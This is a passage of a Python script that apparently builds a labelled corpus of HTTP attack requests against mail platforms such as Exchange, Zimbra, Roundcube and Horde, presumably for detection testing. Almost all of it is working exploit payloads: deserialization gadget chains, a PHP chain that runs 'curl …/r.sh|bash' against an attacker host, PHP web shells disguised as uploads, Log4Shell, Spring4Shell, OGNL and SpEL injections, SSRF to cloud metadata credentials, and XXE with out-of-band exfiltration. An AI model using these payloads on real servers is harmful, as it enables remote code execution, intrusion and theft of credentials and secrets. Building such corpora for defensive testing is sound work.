    vs = ("/wEyhAYAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxsLkVkaXRvciwgVmVyc2lvbj0zLjAuMC4wLCBDdWx0dXJlPW5ldXRyYWwsIFB1YmxpY0tleVRva2VuPTMxYmYzODU2YWQzNjRlMzUFAQAAAEJNaWNyb3NvZnQuVmlzdWFsU3R1ZGlvLlRleHQuRm9ybWF0dGluZy5UZXh0Rm9ybWF0dGluZ1J1blByb3BlcnRpZXMBAAAAD0ZvcmVncm91bmRCcnVzaAECAAAABgMAAACmBDxSZXNvdXJjZURpY3Rpb25hcnkKICB4bWxucz0iaHR0cDovL3NjaGVtYXMubWljcm9zb2Z0LmNvbS93aW5meC8yMDA2L3hhbWwvcHJlc2VudGF0aW9uIgogIHhtbG5zOng9Imh0dHA6Ly9zY2hlbWFzLm1pY3Jvc29mdC5jb20vd2luZngvMjAwNi94YW1sIgogIHhtbG5zOlN5c3RlbT0iY2xyLW5hbWVzcGFjZTpTeXN0ZW07YXNzZW1ibHk9bXNjb3JsaWIiCiAgeG1sbnM6RGlhZz0iY2xyLW5hbWVzcGFjZTpTeXN0ZW0uRGlhZ25vc3RpY3M7YXNzZW1ibHk9c3lzdGVtIj4KCSA8T2JqZWN0RGF0YVByb3ZpZGVyIHg6S2V5PSIiIE9iamVjdFR5cGUgPSAieyB4OlR5cGUgRGlhZzpQcm9jZXNzfSIgTWV0aG9kTmFtZSA9ICJTdGFydCIgPgogICAgIDxPYmplY3REYXRhUHJvdmlkZXIuTWV0aG9kUGFyYW1ldGVycz4KICAgICAgICA8U3lzdGVtOlN0cmluZz5jbWQ8L1N5c3RlbTpTdHJpbmc+CiAgICAgICAgPFN5c3RlbTpTdHJpbmc+L2MgY2FsYzwvU3lzdGVtOlN0cmluZz4KICAgICA8L09iamVjdERhdGFQcm92aWRlci5NZXRob2RQYXJhbWV0ZXJzPgogICAgPC9PYmplY3REYXRhUHJvdmlkZXI+CjwvUmVzb3VyY2VEaWN0aW9uYXJ5PgsWAgIBDxYCHgdWaXNpYmxlaGRkAg==")
    emit("rce", "ecp_viewstate_cve_2020_0688", "GET", "/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=" + quote(vs, safe=""),
         base_headers(pick(OWA_HOSTS), accept=ACCEPT_HTML, cookie="ASP.NET_SessionId=%s; msExchEcpCanary=%s" % (alnum(24).lower(), alnum(76))))
    # PHP-CGI argument injection on a XAMPP-hosted webmail (CVE-2024-4577)
    emit("rce", "php_cgi_cve_2024_4577", "POST", "/roundcube/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
         base_headers("webmail.example-smb.local", accept="*/*", ctype="application/x-www-form-urlencoded"),
         "<?php echo shell_exec('whoami & ipconfig'); ?>")


def php_ser(s):
    return 's:%d:"%s";' % (len(s.encode()), s)


def attacks_php():
    # CVE-2025-49113: PHP object smuggled into the session through _from and the upload name
    cmd = "curl -s http://%s/r.sh|bash;#" % ATK
    gadget = ('O:16:"Crypt_GPG_Engine":3:{%sb:0;%s%s%s%s}'
              % (php_ser("\x00*\x00_process"), php_ser("\x00*\x00_gpgconf"), php_ser(cmd), php_ser("\x00*\x00_homedir"), php_ser("")))
    inner = 'a:3:{i:0;%si:1;O:16:"Crypt_GPG_Engine":0:{}i:2;b:0;}' % php_ser(gadget)
    fname = "x|b:0;preferences_time|b:0;preferences|%s" % php_ser(inner)
    ct, body = multipart([("_file[]", fname, "image/png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 32)])
    emit("php", "rc_cve_2025_49113_upload", "POST",
         "/?_from=edit-!%22;i:0;O:16:%22Crypt_GPG_Engine%22:0:{}&_task=settings&_framed=1&_remote=1&_id=1&_uploadid=1&_unlock=1&_action=upload",
         rc_headers(pick(RC_HOSTS), ct), body)
    emit("php", "rc_cve_2025_49113_from", "GET",
         "/?_task=settings&_action=upload&_framed=1&_remote=1&_from=" + quote("edit-" + gadget, safe="") + "&_id=2&_uploadid=2",
         rc_headers(pick(RC_HOSTS)))
    # Horde: PHP through CSV import options (CVE-2020-8518) and Horde_Form unserialize (CVE-2014-1691)
    ct, body = multipart([("import_step", None, None, "2"), ("actionID", None, None, "11"), ("import_format", None, None, "csv"),
                          ("sep", None, None, ","), ("quote", None, None, "\\'));system('id');//"),
                          ("import_file", "contacts.csv", "text/csv", "Name,Email\nBob,bob@example.com\n")])
    emit("php", "horde_cve_2020_8518", "POST", "/turba/data.php", base_headers(pick(HORDE_HOSTS), accept=ACCEPT_HTML, ctype=ct), body)
    emit("php", "horde_cve_2014_1691", "POST", "/horde/login.php",
         base_headers(pick(HORDE_HOSTS), accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         form([("_formvars", 'O:34:"Horde_Kolab_Server_Decorator_Clean":2:{s:43:"\x00Horde_Kolab_Server_Decorator_Clean\x00_server";'
                             'O:20:"Horde_Prefs_Identity":1:{s:9:"\x00*\x00_prefs";O:11:"Horde_Prefs":1:{s:8:"\x00*\x00_opts";a:1:{s:12:"sizecallback";'
                             'a:2:{i:0;s:6:"system";i:1;s:2:"id";}}}}s:42:"\x00Horde_Kolab_Server_Decorator_Clean\x00_added";a:1:{i:0;i:1;}}'),
               ("horde_user", "bob"), ("horde_pass", "x")]))
    # wrappers
    emit("php", "rc_filter_wrapper", "GET", "/?_task=mail&_action=get&_uid=1&_mbox=INBOX&_part=php://filter/convert.base64-encode/resource=../config/config.inc.php",
         rc_headers(pick(RC_HOSTS), xhr=False))
    emit("php", "phar_wrapper", "GET", "/?_task=settings&_action=upload-display&_from=timezone&_file=phar%3A%2F%2F..%2Ftemp%2FRCMTEMPattmnt5f2a.jpg%2Ftest.txt",
         rc_headers(pick(RC_HOSTS), xhr=False))
    emit("php", "data_wrapper_skin", "GET", "/?_task=login&_skin=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
         base_headers(pick(RC_HOSTS), accept=ACCEPT_HTML))
    emit("php", "expect_wrapper", "GET", "/webmail/src/read_body.php?passed_id=2&mailbox=INBOX&file=expect://id",
         base_headers("webmail.example-isp.net", accept=ACCEPT_HTML))
    # web shells as attachments and signatures
    for sub, fname, ctype, content in [
        ("upload_php_shell", "invoice.php", "application/x-php", "<?php @eval($_POST['x']); ?>"),
        ("upload_double_ext", "statement.pdf.phtml", "application/pdf", "%PDF-1.4\n<?php system($_REQUEST['cmd']); ?>"),
        ("upload_gif_polyglot", "avatar.gif", "image/gif", "GIF89a<?php echo passthru(base64_decode($_GET['q'])); __halt_compiler();"),
        ("upload_short_tag", "notes.pht", "text/plain", "<?=`$_GET[c]`?>"),
    ]:
        ct, body = multipart([("_file[]", fname, ctype, content)])
        emit("php", sub, "POST", "/?_task=mail&_id=%s&_uploadid=upload%s&_from=compose&_remote=1&_action=upload" % (hexs(26), ts_ms()),
             rc_headers(pick(RC_HOSTS), ct), body)
    host = pick(RC_HOSTS)
    emit("php", "signature_php", "POST", "/?_task=settings&_action=save-identity", rc_headers(host, "application/x-www-form-urlencoded", xhr=False),
         form([("_token", alnum(32)), ("_iid", "1"), ("_name", "Bob"), ("_email", "bob@example.com"),
               ("_signature", "<?php file_put_contents('logs/.x.php', base64_decode('PD9waHAgZXZhbCgkX1BPU1RbMF0pOw==')); ?>"), ("_html_signature", "0")]))
    emit("php", "snappy_plugin_unserialize", "POST", "/?/Json/&q[]=/0/",
         base_headers(pick(SNAPPY_HOSTS), accept="application/json", ctype="application/json", extra=[["X-SM-Token", hexs(32)]]),
         json.dumps({"Action": "SettingsUpdate", "ContactsAutosave": 'a:1:{i:0;O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";'
                                                                   'O:29:"Monolog\\Handler\\BufferHandler":1:{s:10:"\x00*\x00handler";r:3;}}}'}))


LOG4J = [
    "${jndi:ldap://%s/a}" % OAST,
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://%s/o}" % OAST,
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://%s/x}" % OAST,
    "${jndi:dns://${env:HOSTNAME}.%s/h}" % OAST,
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%s/n}" % OAST,
    "${jndi:ldaps://${sys:java.version}.%s/v}" % OAST,
    "${${upper:j}${upper:n}${upper:d}${upper:i}:rmi://%s:1099/Exploit}" % OAST,
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://%s/k}" % OAST,
]


def attacks_java():
    # Log4Shell sprayed into the headers mail stacks log
    hdrs = [("X-Mailer", pick(ZM_HOSTS)), ("X-Originating-IP", pick(OWA_HOSTS)), ("User-Agent", pick(ZM_HOSTS)),
            ("X-Forwarded-For", pick(ZM_HOSTS)), ("Referer", pick(SOGO_HOSTS)), ("X-Api-Version", pick(JMAP_HOSTS))]
    for i, (hname, host) in enumerate(hdrs):
        h = base_headers(host, accept=ACCEPT_HTML)
        h = [x for x in h if x[0] != hname] + [[hname, LOG4J[i]]]
        uri = pick(["/", "/zimbra/", "/owa/auth/logon.aspx", "/SOGo/", "/service/soap/", "/Microsoft-Server-ActiveSync"])
        emit("java", "log4shell_header_%s" % hname.lower().replace("-", "_"), "GET", uri, h)
    # in the query, the SOAP subject, the autodiscover address, ActiveSync parameters
    emit("java", "log4shell_query_pct", "GET", "/zimbra/?loginOp=login&username=" + quote(LOG4J[6], safe="") + "&client=preferred",
         base_headers(pick(ZM_HOSTS), accept=ACCEPT_HTML))
    host = pick(ZM_HOSTS)
    body = {"Header": {"context": zm_context(person()[1])}, "Body": {"SendMsgRequest": {"_jsns": "urn:zimbraMail", "m": {
        "e": [{"t": "t", "a": person()[1]}], "su": {"_content": LOG4J[7]}, "mp": [{"ct": "text/plain", "content": {"_content": "hi"}}]}}}}
    emit("java", "log4shell_subject_json", "POST", "/service/soap/SendMsgRequest", zm_headers(host), jesc(body, "$"))
    emit("java", "log4shell_autodiscover", "POST", "/Autodiscover/Autodiscover.xml",
         base_headers(pick(ZM_HOSTS), ua="Microsoft Office/16.0", ctype="text/xml"),
         '<?xml version="1.0" encoding="utf-8"?><Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006">'
         '<Request><EMailAddress>${jndi:ldap://%s/ad}</EMailAddress><AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/'
         'outlook/responseschema/2006a</AcceptableResponseSchema></Request></Autodiscover>' % OAST)
    as_request("java", "log4shell_activesync", "FolderSync", (7, 0x16, [(7, 0x12, "0")]),
               uri="/Microsoft-Server-ActiveSync?Cmd=FolderSync&User=%s&DeviceId=%s&DeviceType=iPhone" % (
                   quote("${jndi:ldap://%s/as}" % OAST, safe=""), alnum(12)))
    # Java deserialization and Spring / SpEL against Java mail servers
    ser = (b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04sizeL\x00\ncomparatort\x00\x16"
           b"Ljava/util/Comparator;xp\x00\x00\x00\x02sr\x00+org.apache.commons.beanutils.BeanComparator\xe3\xa1\x88\xeas\"\xa4H\x02\x00\x02L\x00\n"
           b"comparatorq\x00~\x00\x01L\x00\x08propertyt\x00\x12Ljava/lang/String;xpsr\x00?org.apache.commons.collections.comparators.ComparableComparator"
           b"\xfb\xf4\x99%\xb8n\xb17\x02\x00\x00xpt\x00\x10outputProperties" + b"w\x04\x00\x00\x00\x03t\x00\x04calcx")
    emit_raw("java", "deser_raw_body", "POST", "/service/extension/zimbraadmin",
             base_headers(pick(ZM_HOSTS), ua="Java/1.8.0_202", ctype="application/x-java-serialized-object"), ser)
    emit("java", "deser_b64_cookie", "GET", "/zimbra/mail",
         base_headers(pick(ZM_HOSTS), accept=ACCEPT_HTML, cookie="ZM_TEST=true; ZM_PREFS=" + base64.b64encode(ser).decode()))
    emit("java", "spring4shell", "POST", "/service/upload",
         base_headers(pick(ZM_HOSTS), accept="*/*", ctype="application/x-www-form-urlencoded",
                      extra=[["suffix", "%>//"], ["c1", "Runtime"], ["c2", "<%"], ["DNT", "1"]]),
         "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%7D%20%25%7Bsuffix%7Di"
         "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
         "&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
         "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"
         "&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=")
    emit("java", "spel_template_name", "GET", "/mail/templates/preview?name=" + quote("${T(java.lang.Runtime).getRuntime().exec('curl http://%s/j')}" % ATK, safe=""),
         base_headers("crm-mailer.example.com", accept=ACCEPT_HTML))
    emit("java", "ognl_header", "GET", "/mail/inbox.action",
         base_headers("legacy-mail.example.com", accept=ACCEPT_HTML,
                      ctype="%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):"
                            "((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}"))


def attacks_ssrf():
    # Zimbra ProxyServlet (CVE-2019-9621) and memcached injection through it
    zh = pick(ZM_HOSTS)
    emit("ssrf", "zimbra_cve_2019_9621", "POST", "/service/proxy?target=https://127.0.0.1:7071/service/admin/soap/",
         base_headers(zh + ":7071", ua="Mozilla/5.0", ctype="application/xml", cookie="ZM_ADMIN_AUTH_TOKEN=0_%s_%s" % (hexs(40), hexs(100))),
         '<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Header><context xmlns="urn:zimbra"/></soap:Header>'
         '<soap:Body><AuthRequest xmlns="urn:zimbraAdmin"><account by="adminName">zimbra</account><password>%s</password></AuthRequest>'
         '</soap:Body></soap:Envelope>' % alnum(12))
    emit("ssrf", "zimbra_proxy_gopher_memcached", "GET",
         "/service/proxy?target=gopher://127.0.0.1:11211/_%0d%0aset%20zmLdapConfig%200%203600%2064%0d%0a" + quote("a:1:{}", safe="") + "%0d%0a",
         base_headers(pick(ZM_HOSTS), cookie="ZM_ADMIN_AUTH_TOKEN=0_%s_%s" % (hexs(40), hexs(100))))
    # Exchange ProxyLogon / ProxyShell / ProxyNotShell front-end confusion
    oh = pick(OWA_HOSTS)
    emit("ssrf", "proxylogon_beresource", "POST", "/ecp/y.js",
         base_headers(oh, ua="ExchangeServicesClient/0.0.0.0", ctype="text/xml",
                      cookie="X-BEResource=Administrator@EXCH01:444/autodiscover/autodiscover.xml?a=~1942062522;"),
         '<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"><Request>'
         '<EMailAddress>administrator@contoso.com</EMailAddress><AcceptableResponseSchema>http://schemas.microsoft.com/exchange/'
         'autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema></Request></Autodiscover>')
    emit("ssrf", "proxylogon_anonresource", "GET", "/owa/auth/Current/themes/resources/logon.css",
         base_headers(oh, ua="Mozilla/5.0", cookie="X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; "
                                                  "X-BEResource=localhost/owa/auth/logon.aspx?~3;"))
    emit("ssrf", "proxyshell_mapi", "GET", "/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example",
         base_headers(oh, ua="python-requests/2.25.1"))
    emit("ssrf", "proxyshell_ews", "POST", "/autodiscover/autodiscover.json?@evil.example/EWS/exchange.asmx?&Email=autodiscover/autodiscover.json%3F@evil.example",
         base_headers(oh, ua="python-requests/2.25.1", ctype="text/xml"),
         ews_envelope('<m:GetFolder><m:FolderShape><t:BaseShape>AllProperties</t:BaseShape></m:FolderShape><m:FolderIds>'
                      '<t:DistinguishedFolderId Id="inbox"><t:Mailbox><t:EmailAddress>administrator@contoso.com</t:EmailAddress></t:Mailbox>'
                      '</t:DistinguishedFolderId></m:FolderIds></m:GetFolder>', "Exchange2016"))
    emit("ssrf", "proxynotshell_owa", "GET", "/autodiscover/autodiscover.json?@evil.example/owa/&Email=autodiscover/autodiscover.json%3F@evil.example&Protocol=XYZ&FooProtocol=Powershell",
         base_headers(oh, ua="Mozilla/5.0 zgrab/0.x"))
    emit("ssrf", "ecp_email_autodiscover", "GET", "/ecp/x.js?Email=Autodiscover/autodiscover.json%3F@evil.example&Protocol=EWS",
         base_headers(oh, ua="Mozilla/5.0", cookie="X-BEResource=[::1]:444/ecp/DDI/DDIService.svc/GetList?schema=VirtualDirectory#~1941962753"))
    emit("ssrf", "proxyshell_mixed_case", "GET", "/AutoDiscover/AutoDiscover.JSON?a=a@evil.example/mApI/nSpI/?&eMaIl=AutoDiscover/AutoDiscover.JSON%3Fa=a@evil.example",
         base_headers(oh, ua="Mozilla/5.0"))
    # remote-image proxies
    nh = pick(NC_HOSTS)
    emit("ssrf", "nextcloud_proxy_metadata", "GET", "/index.php/apps/mail/api/proxy?src=" + quote("http://169.254.169.254/latest/meta-data/iam/security-credentials/", safe="") + "&requesttoken=" + alnum(43),
         base_headers(nh, accept="image/*", extra=[["OCS-APIREQUEST", "true"]]))
    emit("ssrf", "nextcloud_proxy_decimal", "GET", "/index.php/apps/mail/api/proxy?src=http%3A%2F%2F2130706433%3A6379%2F&requesttoken=" + alnum(43),
         base_headers(nh, accept="image/*"))
    for sub, url in [("snappy_proxy_file", "file:///etc/passwd"), ("snappy_proxy_gce", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token")]:
        enc = base64.urlsafe_b64encode(url.encode()).decode().rstrip("=")
        emit("ssrf", sub, "GET", "/?/ProxyExternal/%s/%s/" % (hexs(40), enc), base_headers(pick(SNAPPY_HOSTS), accept="image/*"))
    emit("ssrf", "snappy_proxy_plain", "GET", "/?/ProxyExternal/%s/http:%%2F%%2F0x7f000001:8500%%2Fv1%%2Fagent%%2Fself/" % hexs(40),
         base_headers(pick(SNAPPY_HOSTS), accept="image/*"))
    # calendar subscriptions (server fetches the ICS)
    rh = pick(RC_HOSTS)
    emit("ssrf", "rc_calendar_url_gce", "POST", "/?_task=calendar&_action=calendar", rc_headers(rh, "application/x-www-form-urlencoded; charset=UTF-8"),
         form([("_token", alnum(32)), ("action", "form-new"), ("c[name]", "Team"), ("c[url]", "http://metadata.google.internal/computeMetadata/v1/project/attributes/ssh-keys?alt=text"),
               ("c[refresh_interval]", "3600")]))
    emit("ssrf", "sogo_webcal_ipv6", "POST", "/SOGo/so/%s/Calendar/addWebCalendar" % quote(person()[1], safe="@"), sogo_headers(pick(SOGO_HOSTS)),
         json.dumps({"url": "http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/"}))
    emit("ssrf", "nextcloud_webcal_mkcol", "MKCOL", "/remote.php/dav/calendars/%s/%s/" % (person()[1].split("@")[0], hexs(8)),
         dav_headers(pick(NC_HOSTS), "application/xml"),
         '<?xml version="1.0" encoding="UTF-8"?><d:mkcol xmlns:d="DAV:" xmlns:cs="http://calendarserver.org/ns/"><d:set><d:prop>'
         '<d:resourcetype><d:collection/><cs:subscribed/></d:resourcetype><d:displayname>Holidays</d:displayname>'
         '<cs:source><d:href>webcal://127.0.0.1:9200/_cat/indices?v</d:href></cs:source></d:prop></d:set></d:mkcol>')
    host = pick(ZM_HOSTS)
    body = {"Header": {"context": zm_context(person()[1])}, "Body": {"CreateFolderRequest": {"_jsns": "urn:zimbraMail", "folder": {
        "name": "Feed", "l": "1", "view": "appointment", "url": "http://100.100.100.200/latest/meta-data/ram/security-credentials/"}}}}
    emit("ssrf", "zimbra_feed_alibaba", "POST", "/service/soap/CreateFolderRequest", zm_headers(host), json.dumps(body))
    # link previews, push subscriptions, webhooks, BIMI logos
    emit("ssrf", "link_preview_docker", "GET", "/api/v1/link-preview?url=http%3A%2F%2F127.1%3A2375%2Fcontainers%2Fjson",
         base_headers(pick(JMAP_HOSTS), accept="application/json"))
    emit("ssrf", "link_preview_dict", "GET", "/api/v1/link-preview?url=dict%3A%2F%2F127.0.0.1%3A6379%2Finfo",
         base_headers(pick(JMAP_HOSTS), accept="application/json"))
    jmap_emit("ssrf", "jmap_push_subscription", [["PushSubscription/set", {"create": {"p1": {
        "deviceClientId": hexs(16), "url": "http://169.254.169.254.nip.io/latest/user-data", "types": ["Email", "Mailbox"]}}}, "0"]],
              using=["urn:ietf:params:jmap:core"])
    emit("ssrf", "bimi_logo_fetch", "POST", "/api/bimi/preview", base_headers("mailadmin.example.com", accept="application/json", ctype="application/json"),
         json.dumps({"domain": "example.com", "logo_url": "http://[fd00:ec2::254]/latest/meta-data/", "vmc_url": "http://localhost:8080/actuator/env"}))
    emit("ssrf", "helpdesk_webhook_target", "POST", "/api/v2/webhooks",
         base_headers("helpdesk.example.org", accept="application/json", ctype="application/json", extra=[["Authorization", "Bearer %s" % alnum(40)]]),
         json.dumps({"webhook": {"name": "mail-sync", "endpoint": "http://kubernetes.default.svc.cluster.local/api/v1/namespaces/kube-system/secrets",
                                 "http_method": "GET", "status": "active", "subscriptions": ["conditional_ticket_events"]}}))
    emit("ssrf", "horde_feed_block", "GET", "/horde/services/portal/edit.php?app=horde&block=feed&uri=http%3A%2F%2F127.0.0.1%3A22%2F&action=save",
         base_headers(pick(HORDE_HOSTS), accept=ACCEPT_HTML))


XXE_FILE = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def attacks_xxe():
    emit("xxe", "zimbra_cve_2019_9670", "POST", "/Autodiscover/Autodiscover.xml",
         base_headers(pick(ZM_HOSTS), ua="Mozilla/5.0", ctype="text/xml"),
         '<!DOCTYPE xxe [<!ELEMENT name ANY ><!ENTITY xxe SYSTEM "file:../conf/localconfig.xml" >]>'
         '<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a"><Request>'
         '<EMailAddress>aaaaa</EMailAddress><AcceptableResponseSchema>&xxe;</AcceptableResponseSchema></Request></Autodiscover>')
    emit("xxe", "zimbra_autodiscover_oob", "POST", "/autodiscover/autodiscover.xml",
         base_headers(pick(ZM_HOSTS), ua="Mozilla/5.0", ctype="application/xml"),
         '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE Autodiscover [<!ENTITY % dtd SYSTEM "http://' + ATK + '/zm.dtd"> %dtd; %all;]>'
         '<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a"><Request><EMailAddress>a@b.c'
         '</EMailAddress><AcceptableResponseSchema>&fileContents;</AcceptableResponseSchema></Request></Autodiscover>')
    emit("xxe", "ews_file_win", "POST", "/EWS/Exchange.asmx", ews_headers(pick(OWA_HOSTS), "FindItem"),
         '<?xml version="1.0" encoding="utf-8"?><!DOCTYPE soap:Envelope [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]>'
         + ews_envelope('<m:ResolveNames ReturnFullContactData="true"><m:UnresolvedEntry>&x;</m:UnresolvedEntry></m:ResolveNames>').split("\r\n", 1)[1])
    emit("xxe", "ews_xinclude", "POST", "/EWS/Exchange.asmx", ews_headers(pick(OWA_HOSTS), "ResolveNames"),
         ews_envelope('<m:ResolveNames xmlns:xi="http://www.w3.org/2001/XInclude"><m:UnresolvedEntry><xi:include href="file:///c:/inetpub/wwwroot/web.config" parse="text"/>'
                      '</m:UnresolvedEntry></m:ResolveNames>'))
    emit("xxe", "exchange_autodiscover_param", "POST", "/autodiscover/autodiscover.xml",
         base_headers(pick(OWA_HOSTS), ua="Microsoft Office/16.0", ctype="text/xml"),
         '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % r SYSTEM "https://' + ATK + '/ex.dtd">%r;]><Autodiscover xmlns="http://schemas.microsoft.com/'
         'exchange/autodiscover/outlook/requestschema/2006"><Request><EMailAddress>x@contoso.com</EMailAddress></Request></Autodiscover>')
    emit("xxe", "caldav_report", "REPORT", "/remote.php/dav/calendars/%s/personal/" % person()[1].split("@")[0],
         dav_headers(pick(NC_HOSTS), "application/xml; charset=utf-8", [["Depth", "1"]]),
         '<?xml version="1.0" encoding="UTF-8"?>' + XXE_FILE.replace(" r ", " c:calendar-query ") +
         '<c:calendar-query xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:caldav"><d:prop><d:getetag/></d:prop><c:filter>'
         '<c:comp-filter name="&xxe;"/></c:filter></c:calendar-query>')
    emit("xxe", "sogo_propfind", "PROPFIND", "/SOGo/dav/%s/Contacts/" % person()[1],
         dav_headers(pick(SOGO_HOSTS), "text/xml", [["Depth", "1"]]),
         '<?xml version="1.0"?><!DOCTYPE d:propfind [<!ENTITY % p SYSTEM "http://' + ATK + '/s.dtd"> %p;]><d:propfind xmlns:d="DAV:">'
         '<d:prop><d:displayname/></d:prop></d:propfind>')
    emit("xxe", "zimbra_soap_xml", "POST", "/service/soap/AuthRequest",
         base_headers(pick(ZM_HOSTS), ua="Java/17", ctype="application/soap+xml; charset=utf-8"),
         '<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY lc SYSTEM "file:///opt/zimbra/conf/localconfig.xml">]>'
         '<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><AuthRequest xmlns="urn:zimbraAccount">'
         '<account by="name">&lc;</account><password>x</password></AuthRequest></soap:Body></soap:Envelope>')
    svg = ('<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]>'
           '<svg width="300" height="60" xmlns="http://www.w3.org/2000/svg"><text x="5" y="30">&h;</text></svg>')
    ct, body = multipart([("_file[]", "logo.svg", "image/svg+xml", svg)])
    emit("xxe", "upload_svg_entity", "POST", "/?_task=mail&_id=%s&_uploadid=upload%s&_from=compose&_remote=1&_action=upload" % (hexs(26), ts_ms()),
         rc_headers(pick(RC_HOSTS), ct), body)
    docx = zip_bytes([("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
                      ("word/document.xml", '<?xml version="1.0" standalone="yes"?><!DOCTYPE w [<!ENTITY % x SYSTEM "http://' + ATK +
                       '/docx.dtd"> %x;]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
                       '<w:p><w:r><w:t>&exfil;</w:t></w:r></w:p></w:body></w:document>')])
    ct, body = multipart([("_file[]", "Contract.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx)])
    emit("xxe", "upload_docx_preview", "POST", "/?_task=mail&_id=%s&_uploadid=upload%s&_from=compose&_remote=1&_action=upload" % (hexs(26), ts_ms()),
         rc_headers(pick(RC_HOSTS), ct), body)
    emit("xxe", "horde_xmlrpc", "POST", "/rpc.php", base_headers(pick(HORDE_HOSTS), ua="xmlrpc", ctype="text/xml"),
         '<?xml version="1.0"?>' + XXE_FILE.replace(" r ", " methodCall ") + '<methodCall><methodName>mail.listFolders</methodName><params>'
         '<param><value><string>&xxe;</string></value></param></params></methodCall>')
    emit("xxe", "webdav_lock", "LOCK", "/remote.php/dav/files/%s/Mail/export.mbox" % person()[1].split("@")[0],
         dav_headers(pick(NC_HOSTS), "application/xml", [["Timeout", "Second-3600"]]),
         '<?xml version="1.0"?><!DOCTYPE D:lockinfo [<!ENTITY owner SYSTEM "file:///proc/self/environ">]><D:lockinfo xmlns:D="DAV:">'
         '<D:lockscope><D:exclusive/></D:lockscope><D:locktype><D:write/></D:locktype><D:owner>&owner;</D:owner></D:lockinfo>')
    utf16 = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///opt/zimbra/conf/localconfig.xml">]>'
             '<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"><Request>'
             '<EMailAddress>&e;</EMailAddress></Request></Autodiscover>').encode("utf-16")
    emit_raw("xxe", "autodiscover_utf16", "POST", "/Autodiscover/Autodiscover.xml",
             base_headers(pick(ZM_HOSTS), ua="Mozilla/5.0", ctype="text/xml; charset=utf-16"), utf16)
    emit("xxe", "autodiscover_billion_laughs", "POST", "/autodiscover/autodiscover.xml",
         base_headers(pick(OWA_HOSTS), ua="Mozilla/5.0", ctype="text/xml"),
         '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
         '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
         '<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]><Autodiscover><Request><EMailAddress>&lol5;</EMailAddress>'
         '</Request></Autodiscover>')


def attacks_ssti():
    lm = "listmonk.example.com"
    lm_h = lambda: base_headers(lm, accept="application/json", ctype="application/json",
                                extra=[["Authorization", "token api_user:%s" % alnum(32)]])
    emit("ssti", "listmonk_env", "POST", "/api/campaigns", lm_h(), json.dumps({
        "name": "promo", "subject": "Hello {{ env \"LISTMONK_db__password\" }}", "lists": [1], "content_type": "html",
        "body": "<p>{{ env \"AWS_SECRET_ACCESS_KEY\" }} {{ expandenv \"$HOME $PATH\" }}</p>"}))
